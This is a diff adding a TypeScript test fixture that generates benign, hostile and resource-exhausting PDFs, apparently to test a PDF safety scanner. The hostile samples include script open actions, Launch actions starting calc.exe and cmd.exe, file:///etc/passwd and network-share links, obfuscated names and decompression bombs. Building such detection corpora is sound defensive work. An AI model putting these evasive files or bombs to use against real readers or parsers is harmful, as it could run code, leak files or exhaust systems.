@@ -1,0 +1,440 @@
+import { once } from 'node:events';
+import { buffer } from 'node:stream/consumers';
+import { PassThrough } from 'node:stream';
+import { deflateSync } from 'node:zlib';
+import PDFDocument from 'pdfkit';
+import { PAGE, PAGES, pdfOf } from './files.ts';
+
+/** PDFs as people send them, and as people send them who mean harm; each is made by code. */
+
+const latin1 = (text: string) => Buffer.from(text, 'latin1');
+const catalogue = (more = '') => `<</Type/Catalog/Pages 2 0 R${more}>>`;
+const withCatalogue = (more: string, ...others: string[]) =>
+  pdfOf(catalogue(more), PAGES, PAGE, ...others);
+const HONEST = [catalogue(), PAGES, PAGE] as const;
+const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
+const MEGABYTE = 1024 * 1024;
+/** As large as makes any reading that is worse than linear take minutes. */
+const LARGE = MEGABYTE;
+
+/** Text repeated to so many bytes. */
+const filled = (text: string, size: number) => text.repeat(Math.ceil(size / text.length));
+
+interface Packing {
+  filter?: string;
+  pack?: (plain: Buffer) => Buffer;
+  /** Instead of what is so. */
+  counts?: { n?: number; first?: number };
+  type?: string;
+}
+
+/** An object stream, as writers make them since PDF 1.5; numbered from 20. */
+export function packed(objects: readonly string[], options: Packing = {}): string {
+  const { filter = '/Filter/FlateDecode', pack = deflateSync, counts = {} } = options;
+  let at = 0;
+  const index = objects.map((object, position) => {
+    const entry = `${20 + position} ${at}`;
+    at += object.length + 1;
+    return entry;
+  });
+  const head = `${index.join(' ')} `;
+  const data = pack(latin1(`${head}${objects.join(' ')}`)).toString('latin1');
+  const { n = objects.length, first = head.length } = counts;
+  const type = options.type ?? '/Type/ObjStm';
+  return `<<${type}/N ${n}/First ${first}/Length ${data.length}${filter}>>stream\n${data}\nendstream`;
+}
+
+const stream = (data: string, more = '') =>
+  `<</Length ${data.length}${more}>>stream\n${data}\nendstream`;
+
+/** The objects with a right table of contents, as most programs write it. */
+function withTable(objects: readonly string[], trailer = ''): Buffer {
+  let text = '%PDF-1.4\n%\xE2\xE3\xCF\xD3\n';
+  const offsets = objects.map((object, at) => {
+    const offset = text.length;
+    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
+    return offset;
+  });
+  const entry = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
+  const start = text.length;
+  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map(entry).join('')}`;
+  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`;
+  return latin1(text);
+}
+
+const appended = (file: Buffer, text: string) => Buffer.concat([file, latin1(text)]);
+
+/** The data of a deflate stream that says nothing at all, at length. */
+function emptyBlocks(size: number): Buffer {
+  const block = Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff]);
+  return Buffer.concat([Buffer.from([0x78, 0x9c]), Buffer.alloc(size, block)]);
+}
+
+/** What can run, open or carry something. */
+export const ACTIVE_PDFS: Record<string, Buffer> = {
+  'a script to begin with': withCatalogue(`/OpenAction${SCRIPT}`),
+  'a script to begin with, elsewhere': withCatalogue('/OpenAction 4 0 R', SCRIPT),
+  'a script among the names': withCatalogue(`/Names<</JavaScript<</Names[(a) 4 0 R]>>>>`, SCRIPT),
+  'a script under an escaped name': withCatalogue('/X<</#53/J#61v#61Script/#4a#53(app.alert(1))>>'),
+  'a script all of whose letters are escaped': withCatalogue(
+    '/X<</S/#4a#61#76#61#53#63#72#69#70#74>>',
+  ),
+  'a script of a page': pdfOf(catalogue(), PAGES, PAGE.replace('>>', `/AA<</O ${SCRIPT}>>>>`)),
+  'a script of a form': withCatalogue(
+    '/AcroForm<</Fields[4 0 R]>>',
+    `<</FT/Tx/AA<</K ${SCRIPT}>>>>`,
+  ),
+  'a script of a link': withCatalogue('', `<</Type/Annot/Subtype/Link/A${SCRIPT}>>`),
+  'a script of an outline': withCatalogue('/Outlines 4 0 R', `<</First 5 0 R>>`, `<</A${SCRIPT}>>`),
+  'a script after turning a page': withCatalogue(
+    '/OpenAction 4 0 R',
+    `<</S/GoTo/D[3 0 R]/Next 5 0 R>>`,
+    SCRIPT,
+  ),
+  'a script in a key that is repeated': withCatalogue('/X<</S/JavaScript>>/X<</S/GoTo>>'),
+  'a script after a comment': withCatalogue('/X% >> endobj\n<</S/JavaScript>>'),
+  'a script behind a long comment': withCatalogue(
+    `/X%${filled('>> endobj ', 100_000)}\n<</S/JavaScript>>`,
+  ),
+  'a script deep down': withCatalogue(`/X${'['.repeat(50)}/JS${']'.repeat(50)}`),
+  'a script in a packed object': withCatalogue('', packed([SCRIPT])),
+  'a script in an object stream that is not packed': withCatalogue(
+    '',
+    packed([SCRIPT], { filter: '', pack: (plain) => plain }),
+  ),
+  'a script in an object stream without a type': withCatalogue('', packed([SCRIPT], { type: '' })),
+  'a script in an object stream named by escapes': withCatalogue(
+    '',
+    packed([SCRIPT], { type: '/Type/Obj#53tm', filter: '/Fil#74er/Fl#61teDecode' }),
+  ),
+  'a script in an object stream with the short name': withCatalogue(
+    '',
+    packed([SCRIPT], { filter: '/Filter[/Fl]' }),
+  ),
+  'a script in the data of a stream': withCatalogue('', stream(`9 0 obj${SCRIPT}endobj`)),
+  'a script in the data of a stream, written badly': withCatalogue(
+    '',
+    stream(`9 0 obj<< ) /S/JavaScript>>endobj`),
+  ),
+  'a script under a number with comments in it': appended(
+    withCatalogue(''),
+    `9 %x\n0 %y\nobj<</S/JavaScript>>endobj`,
+  ),
+  'a script under comments, written badly': appended(
+    withCatalogue(''),
+    `9 %x\n0 %y\nobj<</A ) /S/JavaScript>>endobj`,
+  ),
+  'a script in an update': appended(
+    withTable(HONEST),
+    `1 0 obj\n${catalogue(`/OpenAction${SCRIPT}`)}\nendobj\ntrailer\n<</Root 1 0 R/Prev 9>>\n%%EOF`,
+  ),
+  'a script in the tenth update': appended(
+    withTable(HONEST),
+    `${filled('3 0 obj<<>>endobj trailer<</Prev 9>>\n', 400)}1 0 obj${catalogue('/AA<<>>')}endobj`,
+  ),
+  'a script behind the end': appended(
+    withTable(HONEST),
+    `${'\n'.repeat(5000)}9 0 obj${SCRIPT}endobj`,
+  ),
+  'a script under a huge number': appended(withCatalogue(''), `9999999999 0 obj${SCRIPT}endobj`),
+  'a script with a late header': Buffer.concat([Buffer.alloc(900, ' '), withCatalogue(`/AA<<>>`)]),
+  'a script in a trailer': latin1(
+    withCatalogue('').toString('latin1').replace('/Root', `/X${SCRIPT}/Root`),
+  ),
+  'a script in a table of contents that is a stream': withCatalogue(
+    '',
+    `<</Type/XRef/Root 1 0 R/X${SCRIPT}>>stream\nx\nendstream`,
+  ),
+  'a script with null bytes for spaces': withCatalogue('/X\0<<\0/S\0/JavaScript\0>>'),
+  'a program to start': withCatalogue('/OpenAction<</S/Launch/F(calc.exe)>>'),
+  'a program to start by a link': withCatalogue(
+    '',
+    '<</Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c a)>>>>>>',
+  ),
+  'another file to open, in a network': withCatalogue(
+    '',
+    String.raw`<</Subtype/Link/A<</S/GoToR/F(\\\\203.0.113.5\\share\\a.pdf)/D[0/Fit]>>>>`,
+  ),
+  'another file to open at once, in a network': withCatalogue(
+    String.raw`/OpenAction<</S/GoToR/F(\\\\host\\share\\a.pdf)/D[0/Fit]>>`,
+  ),
+  'an attached file to open': withCatalogue('', '<</Subtype/Link/A<</S/GoToE/T<</R/C/N(a)>>>>>>'),
+  'a file in a network by an address': withCatalogue(
+    '',
+    '<</Subtype/Link/A<</S/URI/URI(file://203.0.113.5/share/a)>>>>',
+  ),
+  'a file in a network by an address with an escaped letter': withCatalogue(
+    '',
+    String.raw`<</A<</S/URI/URI(\146ile:///etc/passwd)>>>>`,
+  ),
+  'a file in a network by two strokes': withCatalogue(
+    '',
+    String.raw`<</A<</S/URI/URI(\\\\host\\share)>>>>`,
+  ),
+  'a script by an address': withCatalogue('', '<</A<</S/URI/URI(javascript:alert\\(1\\))>>>>'),
+  'an address that is written elsewhere': withCatalogue(
+    '',
+    '<</A<</S/URI/URI 5 0 R>>>>',
+    '(file:///etc/passwd)',
+  ),
+  'an address in hexadecimal': withCatalogue(
+    '',
+    `<</A<</S/URI/URI<${latin1('file:///c:/').toString('hex')}>>>>>`,
+  ),
+  'an address to open at once': withCatalogue('/OpenAction<</S/URI/URI(https://bad.example)>>'),
+  'attached files': withCatalogue(
+    '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>',
+    '<</EF<</F 5 0 R>>>>',
+    stream('MZ', '/Type/EmbeddedFile'),
+  ),
+  'an attached file of a note': withCatalogue(
+    '',
+    '<</Subtype/FileAttachment/FS<</EF<</F 9 0 R>>>>>>',
+  ),
+  'a file that is named and elsewhere': withCatalogue(
+    '',
+    '<</Type/Filespec/FS/URL/F(https://bad.example/a.exe)>>',
+  ),
+  'a dynamic form': withCatalogue('/AcroForm<</XFA 4 0 R>>', stream('<xdp/>')),
+  'a form that sends itself': withCatalogue('', '<</S/SubmitForm/F(https://bad.example)>>'),
+  'a form that takes data in': withCatalogue('', '<</S/ImportData/F(a.fdf)>>'),
+  'a film': withCatalogue('', '<</Subtype/RichMedia/RichMediaContent<<>>>>'),
+  'a film of the old kind': withCatalogue('', '<</Subtype/Movie/Movie<</F(a.avi)>>>>'),
+  'a rendition': withCatalogue('', '<</S/Rendition/OP 0>>'),
+};
+
+/** What would keep a reader busy, or hides what it is. */
+export const EXHAUSTING_PDFS: Record<string, () => Buffer> = {
+  'comments without end, after numbers': () => appended(withCatalogue(''), filled('%1', LARGE)),
+  'numbers and comments, line by line': () =>
+    appended(withCatalogue(''), filled('1 %1%1%1%1\n', LARGE)),
+  'numbers alone': () => appended(withCatalogue(''), filled('1 ', LARGE)),
+  'lists without end': () => withCatalogue('', filled('[', LARGE)),
+  'dictionaries without end': () => withCatalogue('', filled('<</A', LARGE)),
+  'first actions in each other': () => withCatalogue('', filled('<</OpenAction', 5 * MEGABYTE)),
+  'objects that begin and never end': () => appended(withCatalogue(''), filled('1 0 obj[', LARGE)),
+  'objects that begin with nothing before': () =>
+    appended(withCatalogue(''), filled('obj[', LARGE)),
+  'strings that begin and never end': () => appended(withCatalogue(''), filled('obj(', LARGE)),
+  'hexadecimal that begins and never ends': () =>
+    appended(withCatalogue(''), filled('obj<0', LARGE)),
+  'comments that begin and never end': () => appended(withCatalogue(''), filled('obj%', LARGE)),
+  'names that begin and never end': () => appended(withCatalogue(''), filled('obj/obj', LARGE)),
+  'streams without end': () => appended(withCatalogue(''), filled('1 0 obj<<>>stream\n', LARGE)),
+  'trailers without end': () => appended(withCatalogue(''), filled('trailer<<', LARGE)),
+  'trailers in strings': () => appended(withCatalogue(''), filled('trailer(', LARGE)),
+  'a name of megabytes': () => withCatalogue('', `/${filled('#41', LARGE)}`),
+  'a number of megabytes': () => withCatalogue('', filled('9', LARGE)),
+  'a string of megabytes without an end': () => withCatalogue('', filled('((', LARGE)),
+  'a million small dictionaries': () => withCatalogue('', `[${filled('<<>>', LARGE)}`),
+  'a million names': () =>
+    appended(
+      withCatalogue(''),
+      `9 0 obj<<${Array.from({ length: 900_000 }, (_, n) => `/k${n} 0`).join('')}`,
+    ),
+  'a bomb': () =>
+    withCatalogue(
+      '',
+      packed([' '], { pack: () => deflateSync(Buffer.alloc(200 * MEGABYTE, ' ')) }),
+    ),
+  'a bomb of lists': () =>
+    withCatalogue(
+      '',
+      packed([' '], { pack: () => deflateSync(Buffer.alloc(100 * MEGABYTE, '[')) }),
+    ),
+  'many small bombs': () => {
+    const bomb = packed([' '], { pack: () => deflateSync(Buffer.alloc(4 * MEGABYTE, ' ')) });
+    return withCatalogue('', ...Array.from({ length: 500 }, () => bomb));
+  },
+  'a bomb in a bomb': () =>
+    withCatalogue(
+      '',
+      packed([' '], {
+        pack: () => deflateSync(deflateSync(Buffer.alloc(200 * MEGABYTE))),
+        filter: '/Filter[/FlateDecode/FlateDecode]',
+      }),
+    ),
+  'packed emptiness, again and again': () => {
+    const head = '1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n';
+    const one = Buffer.concat([latin1(head), emptyBlocks(500)]);
+    return Buffer.concat([withCatalogue(''), Buffer.alloc(8 * MEGABYTE, one)]);
+  },
+  'an index of the same object, again and again': () => {
+    const big = `[${filled('0 ', 100_000)}]`;
+    const count = 5000;
+    const head = filled('20 0 ', count * 5);
+    const data = deflateSync(latin1(head + big)).toString('latin1');
+    return withCatalogue(
+      '',
+      `<</Type/ObjStm/N ${count}/First ${head.length}/Filter/FlateDecode>>stream\n${data}\nendstream`,
+    );
+  },
+  'an object stream of a billion objects': () =>
+    withCatalogue('', packed([PAGE], { counts: { n: 1_000_000_000 } })),
+  'an object stream that begins behind its end': () =>
+    withCatalogue('', packed([PAGE], { counts: { first: 1_000_000_000 } })),
+  'an object stream that says to hold less than none': () =>
+    withCatalogue('', packed([PAGE], { counts: { first: -50 } })),
+  'an object stream in an old packing': () =>
+    withCatalogue('', packed([PAGE], { filter: '/Filter/LZWDecode' })),
+  'an object stream in hexadecimal': () =>
+    withCatalogue(
+      '',
+      packed([SCRIPT], {
+        filter: '/Filter/ASCIIHexDecode',
+        pack: (plain) => latin1(`${plain.toString('hex')}>`),
+      }),
+    ),
+  'an object stream with a predictor': () =>
+    withCatalogue(
+      '',
+      packed([SCRIPT], { filter: '/Filter/FlateDecode/DecodeParms<</Predictor 12>>' }),
+    ),
+  'an object stream that is elsewhere': () =>
+    withCatalogue('', packed([PAGE], { filter: '/F(a.bin)' })),
+  'an object stream that is not packed as it says': () =>
+    withCatalogue('', packed([PAGE], { pack: (plain) => plain })),
+  'references in a ring': () => withCatalogue('/OpenAction 4 0 R', '5 0 R', '4 0 R'),
+  'references in a long row': () =>
+    pdfOf(
+      catalogue('/OpenAction 4 0 R'),
+      PAGES,
+      PAGE,
+      ...Array.from({ length: 50_000 }, (_, n) => `${n + 5} 0 R`),
+    ),
+  'pages without number': () =>
+    pdfOf(catalogue(), PAGES, ...Array.from({ length: 50_000 }, () => PAGE)),
+  'no page': () => pdfOf(catalogue(), PAGES),
+  'nothing but a header': () => latin1('%PDF-1.7\n'),
+  'a header that comes too late': () => Buffer.concat([Buffer.alloc(5000, ' '), withCatalogue('')]),
+  'an object that is cut off': () => withCatalogue('').subarray(0, 60),
+  'a list that is cut off': () => appended(withCatalogue(''), '9 0 obj[1 2'),
+  'noise after a header': () => {
+    const noise = Buffer.alloc(LARGE);
+    for (let at = 0, x = 1; at < noise.length; at += 1) {
+      x = (x * 1_103_515_245 + 12_345) % 2_147_483_648;
+      noise[at] = x >> 16;
+    }
+    return Buffer.concat([latin1('%PDF-1.7\n'), noise]);
+  },
+  'tables of contents that point at each other': () =>
+    latin1(
+      `%PDF-1.4\n${filled('xref\n0 1\n0000000009 00000 n \ntrailer<</Prev 9/Size 99999999>>\nstartxref\n9\n', 2 * MEGABYTE)}`,
+    ),
+};
+
+/** Nobody can look into these. */
+export const LOCKED_PDFS: Record<string, Buffer> = {
+  'encrypted, named in the trailer': withTable(
+    [...HONEST, '<</Filter/Standard/V 2/R 3>>'],
+    '/Encrypt 4 0 R',
+  ),
+  'encrypted, named by escapes': withTable([...HONEST, '<</Filter/Standard>>'], '/#45ncrypt 4 0 R'),
+  'encrypted, named in a table that is a stream': withCatalogue(
+    '',
+    '<</Type/XRef/Encrypt 9 0 R>>stream\nx\nendstream',
+  ),
+};
+
+type Drawing = (document: PDFKit.PDFDocument) => void;
+
+async function drawn(draw: Drawing, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
+  const document = new PDFDocument(options);
+  const through = new PassThrough();
+  document.pipe(through);
+  draw(document);
+  document.end();
+  const [bytes] = await Promise.all([buffer(through), once(through, 'end')]);
+  return bytes;
+}
+
+const PAGE_WITH = (more: string) => PAGE.replace('>>', `${more}>>`);
+const CONTENT = 'BT /F1 24 Tf 20 100 Td (Receipt (no. 7) for /JS a phone) Tj ET';
+
+/** As programs of every sort write them, and none of it can do anything by itself. */
+export const HONEST_PDFS: Record<string, () => Buffer | Promise<Buffer>> = {
+  'one page of text': () => drawn((it) => it.text('Receipt no. 7')),
+  'twelve pages': () =>
+    drawn((it) => {
+      for (let page = 0; page < 11; page += 1) it.text('More').addPage();
+    }),
+  'not packed': () => drawn((it) => it.text('Plain'), { compress: false }),
+  'PDF 1.3': () => drawn((it) => it.text('Old'), { pdfVersion: '1.3' }),
+  'PDF 1.7 with structure': () =>
+    drawn((it) => it.text('Tagged'), {
+      pdfVersion: '1.7',
+      tagged: true,
+      lang: 'en-GB',
+      displayTitle: true,
+    }),
+  'a link to a shop': () =>
+    drawn((it) => it.text('Shop', { link: 'https://shop.example/a?b=(c)' })),
+  'a link to a mailbox': () =>
+    drawn((it) => it.text('Write', { link: 'mailto:shop@shop.example' })),
+  'an outline and places to go to': () =>
+    drawn((it) => {
+      it.outline.addItem('Top');
+      it.addNamedDestination('top');
+      it.text('Top', { goTo: 'top' });
+    }),
+  'notes and drawings': () =>
+    drawn((it) => {
+      it.note(10, 10, 50, 50, 'Paid').rect(10, 10, 90, 90).fill('#369');
+      it.highlight(10, 100, 50, 10);
+    }),
+  'a form without scripts': () =>
+    drawn((it) => {
+      it.font('Helvetica').initForm();
+      it.formText('name', 10, 10, 100, 20);
+      it.formCheckbox('agreed', 10, 50, 20, 20, {});
+    }),
+  'who made it, with brackets': () =>
+    drawn((it) => it.text('x'), { info: { Title: 'A (b) \\ c', Author: 'Ünal' } }),
+  'a table of contents as usual': () => withTable(HONEST),
+  'lines that end in carriage returns': () =>
+    latin1(withTable(HONEST).toString('latin1').replaceAll('\n', '\r')),
+  'lines that end in both': () =>
+    latin1(withTable(HONEST).toString('latin1').replaceAll('\n', '\r\n')),
+  'page content that speaks of scripts': () =>
+    withTable([catalogue(), PAGES, PAGE_WITH('/Contents 4 0 R'), stream(CONTENT)]),
+  'objects in an object stream': () =>
+    withCatalogue('', packed([PAGE, '<</Type/Font/BaseFont/Helvetica>>', '(a string)', '[1 2 3]'])),
+  'objects in a stream that is not packed': () =>
+    pdfOf(catalogue(), PAGES, packed([PAGE], { filter: '', pack: (plain) => plain })),
+  'an update': () =>
+    appended(
+      withTable(HONEST),
+      `3 0 obj\n${PAGE_WITH('/Rotate 90')}\nendobj\ntrailer\n<</Root 1 0 R/Size 4/Prev 9>>\nstartxref\n9\n%%EOF\n`,
+    ),
+  'a linear one': () =>
+    Buffer.concat([
+      latin1(
+        `%PDF-1.4\n9 0 obj<</Linearized 1/L 500/H[100 20]/O 3/E 300/N 1/T 400>>endobj\nxref\n0 0\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n0\n%%EOF\n`,
+      ),
+      withTable(HONEST),
+    ]),
+  'a page to begin with': () => withCatalogue('/OpenAction[3 0 R/FitH null]/PageMode/UseOutlines'),
+  'a page to begin with, elsewhere': () =>
+    withCatalogue('/OpenAction 4 0 R', '<</S/GoTo/D[3 0 R/Fit]>>'),
+  'a page to begin with, two references away': () =>
+    withCatalogue('/OpenAction 4 0 R', '5 0 R', '[3 0 R/Fit]'),
+  'the word object in comments and strings': () =>
+    appended(withCatalogue('/X(an object (of) /JS)'), '% object (of nothing\n%%EOF\n'),
+  'data that looks like an object': () =>
+    withCatalogue('', stream(`7 0 obj<< 0 0 endobj obj( ${'x'.repeat(99)}`)),
+  'a picture of noise': () => {
+    const noise = Buffer.alloc(300_000);
+    for (let at = 0, x = 7; at < noise.length; at += 1) {
+      x = (x * 1_103_515_245 + 12_345) % 2_147_483_648;
+      noise[at] = x >> 16;
+    }
+    return withTable([
+      catalogue(),
+      PAGES,
+      PAGE,
+      stream(noise.toString('latin1'), '/Subtype/Image/Filter/DCTDecode'),
+    ]);
+  },
+  'a relative address and a base': () =>
+    withCatalogue('/URI<</Base(https://shop.example/)>>', '<</A<</S/URI/URI(receipts/7)>>>>'),
+};
